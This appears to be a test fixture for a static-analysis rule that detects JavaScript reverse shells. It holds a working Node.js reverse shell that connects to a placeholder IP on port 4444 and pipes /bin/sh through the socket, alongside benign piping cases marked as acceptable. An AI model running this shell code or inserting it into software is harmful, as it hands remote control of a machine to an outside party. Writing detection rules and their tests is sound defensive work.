/*
 * Fixture for js-reverse-shell.
 * RULEID: net.connect + spawn("/bin/sh") with stdin/stdout piped to the socket.
 * OK: spawning git and piping its output to a file; piping a socket into a log file.
 */
const net = require("net");
const cp = require("child_process");
const fs = require("fs");

const client = new net.Socket();
client.connect(4444, "198.51.100.11", () => {
  const sh = cp.spawn("/bin/sh", []);
  // ruleid: js-reverse-shell
  client.pipe(sh.stdin);
  // ruleid: js-reverse-shell
  sh.stdout.pipe(client);
  // ruleid: js-reverse-shell
  sh.stderr.pipe(client);
});

const git = cp.spawn("git", ["log"]);
const out = fs.createWriteStream("log.txt");
// ok: js-reverse-shell
git.stdout.pipe(out);
// ok: js-reverse-shell
client.pipe(fs.createWriteStream("traffic.log"));
